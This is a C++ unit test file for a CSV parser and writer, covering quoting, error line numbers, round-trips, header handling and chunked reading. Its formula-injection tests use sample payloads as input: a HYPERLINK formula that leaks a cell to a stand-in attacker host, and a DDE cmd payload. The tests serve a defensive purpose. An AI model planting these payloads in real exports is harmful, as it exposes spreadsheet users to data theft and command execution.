#include "records/csvio.h"
#include "records/recordstore.h"
#include "support/testsupport.h"

#include <gtest/gtest.h>

TEST(CsvParse, QuotedFieldsHoldCommasQuotesAndLineBreaksAndFaultsNameTheirLine)
{
    std::vector<QStringList> rows;
    Csv::ParseError error;
    ASSERT_TRUE(Csv::parse("a,\"b,c\",\"say \"\"hi\"\"\"\r\n\r\n\"two\r\nlines\",,x\n", &rows, &error));
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_EQ(rows[0], (QStringList{"a", "b,c", "say \"hi\""}));
    EXPECT_EQ(rows[1], (QStringList{"two\r\nlines", "", "x"}));

    const std::pair<QByteArray, int> faults[] = {{"a,b\r\n\"open,c\r\n", 2},
                                                 {"a\r\nb\r\n\"x\"y,z\r\n", 3},
                                                 {"ok\r\n\"multi\r\nline\"\r\nbad\"quote\r\n", 4}};
    for (const auto &[text, line] : faults) {
        SCOPED_TRACE(text.constData());
        Csv::ParseError fault;
        EXPECT_FALSE(Csv::parse(text, &rows, &fault));
        EXPECT_EQ(fault.line, line);
        EXPECT_FALSE(fault.message.isEmpty());
    }
}

using CsvStore = TestSupport::StoreTest;

TEST_F(CsvStore, WhatIsWrittenReadsBackTheSameAndHeadersComeInAnyOrder)
{
    TestSupport::addRecord(store, {{Field::UserName, "ann"},
                                   {Field::Address, "1 Main St,\r\n\"Rear\" door"},
                                   {Field::AuctionName, QString::fromUtf8("Tasse – 1920")}});
    TestSupport::addRecord(store, {{Field::UserName, "bob"}, {Field::PayPal, "1"}});

    const QByteArray csv = Csv::writeRecords(store);
    EXPECT_TRUE(csv.startsWith("\"Close Date\",") || csv.startsWith("Close Date,"));
    EXPECT_TRUE(csv.endsWith("\r\n"));
    std::vector<FieldValues> records;
    Csv::ParseError error;
    ASSERT_TRUE(Csv::readRecords(csv, &records, &error)) << error.message.toStdString();
    EXPECT_EQ(records, TestSupport::valuesIn(store));

    // A header in any order, with columns missing; unknown columns and long rows are refused.
    ASSERT_TRUE(Csv::readRecords("User Name,CK Criedt Filed,Close Date\r\nann,1,12/27/2005\r\n",
                                 &records, &error));
    ASSERT_EQ(records.size(), 1u);
    TestSupport::expectFields(records[0], {{Field::UserName, "ann"},
                                           {Field::CriedtFiled, "1"},
                                           {Field::CloseDate, "12/27/2005"},
                                           {Field::Notes, ""}});
    EXPECT_FALSE(Csv::readRecords("User Name,Shoe Size\r\nann,9\r\n", &records, &error));
    EXPECT_TRUE(error.message.contains("Shoe Size"));
    EXPECT_FALSE(Csv::readRecords("User Name,Notes\r\nann,a,b\r\n", &records, &error));
    EXPECT_EQ(error.line, 2);
}

TEST(CsvWriter, ATextASpreadsheetWouldRunGetsAnApostropheAndReadsBackAsItWas)
{
    struct Case
    {
        const char *text;
        const char *written; // the cell as the file holds it
    };
    const Case cases[] = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"+1+2", "'+1+2"},
        {"-1+cmd", "'-1+cmd"},
        {"\tx", "'\tx"},
        {"\r=x", "\"'\r=x\""},
        {"'=x", "''=x"},         // a real apostrophe before a formula keeps it
        {"'quoted'", "'quoted'"}, // an apostrophe before plain text is left alone
        {"lamp = 5", "lamp = 5"},
        {"", ""},
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.text);
        Csv::Writer w;
        w.text(QString::fromUtf8(c.text)).value(QStringLiteral("-12.5"));
        w.endRow();
        EXPECT_EQ(w.bytes(), QByteArray(c.written) + ",-12.5\r\n");
        std::vector<QStringList> rows;
        Csv::ParseError error;
        ASSERT_TRUE(Csv::parse(w.bytes(), &rows, &error));
        ASSERT_EQ(rows.size(), 1u);
        EXPECT_EQ(Csv::unguardFormula(rows[0][0]), QString::fromUtf8(c.text));
    }
}

TEST_F(CsvStore, AnExportOfNamesThatWouldRunReadsBackTheSameRecordsWithAmountsAsNumbers)
{
    const QString link = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    TestSupport::addRecord(store, {{Field::UserName, link},
                                   {Field::AuctionName, "@SUM(1+1)*cmd|' /C calc'!A0"},
                                   {Field::Notes, "-drop it"},
                                   {Field::AuctionTotal, "-12.5"},
                                   {Field::CloseDate, "12/27/2005"}});
    const QByteArray csv = Csv::writeRecords(store);
    // Nothing in the file starts a cell the way a formula does.
    std::vector<QStringList> rows;
    Csv::ParseError error;
    ASSERT_TRUE(Csv::parse(csv, &rows, &error));
    ASSERT_EQ(rows.size(), 2u);
    for (const QString &cell : rows[1])
        EXPECT_FALSE(cell.startsWith('=') || cell.startsWith('@') || cell.startsWith("-d"))
            << cell.toStdString();
    const auto cell = [&](Field f) { return rows[1][Fields::index(f)]; };
    EXPECT_EQ(cell(Field::AuctionTotal), "-12.5");
    EXPECT_EQ(cell(Field::CloseDate), "12/27/2005");
    EXPECT_EQ(cell(Field::UserName), "'" + link);

    std::vector<FieldValues> records;
    ASSERT_TRUE(Csv::readRecords(csv, &records, &error)) << error.message.toStdString();
    EXPECT_EQ(records, TestSupport::valuesIn(store));
}

TEST(CsvRowReader, TextFedInPiecesOfAnySizeGivesTheRowsAndLinesOfTheWholeText)
{
    // Quoted line breaks, doubled quotes, CR LF, lone CR and LF, blank lines, no final end.
    const QString text = "a,\"b,c\",\"say \"\"hi\"\"\"\r\n\r\n\"two\r\nlines\",,x\n"
                         "\"\"\"\",end\rlast,\"q\"";
    std::vector<QStringList> whole;
    std::vector<int> wholeLines;
    Csv::ParseError error;
    ASSERT_TRUE(Csv::parseText(text, u',', &whole, &error, &wholeLines));
    ASSERT_EQ(whole.size(), 4u);
    EXPECT_EQ(whole[1], (QStringList{"two\r\nlines", "", "x"}));
    EXPECT_EQ(whole[2], (QStringList{"\"", "end"}));
    EXPECT_EQ(wholeLines, (std::vector<int>{1, 3, 5, 6}));
    for (qsizetype piece = 1; piece <= text.size(); ++piece) {
        SCOPED_TRACE(piece);
        Csv::RowReader reader(u',');
        std::vector<QStringList> rows;
        std::vector<int> lines;
        qsizetype fed = 0;
        QStringList row;
        int line = 0;
        for (bool done = false; !done;) {
            switch (reader.next(&row, &line, &error)) {
            case Csv::RowReader::Next::Row:
                rows.push_back(row);
                lines.push_back(line);
                break;
            case Csv::RowReader::Next::More:
                if (fed < text.size()) {
                    reader.feed(QStringView(text).mid(fed, piece));
                    fed += piece;
                } else {
                    reader.finish();
                }
                break;
            case Csv::RowReader::Next::End: done = true; break;
            case Csv::RowReader::Next::Error: FAIL() << error.message.toStdString();
            }
        }
        EXPECT_EQ(rows, whole);
        EXPECT_EQ(lines, wholeLines);
    }
}
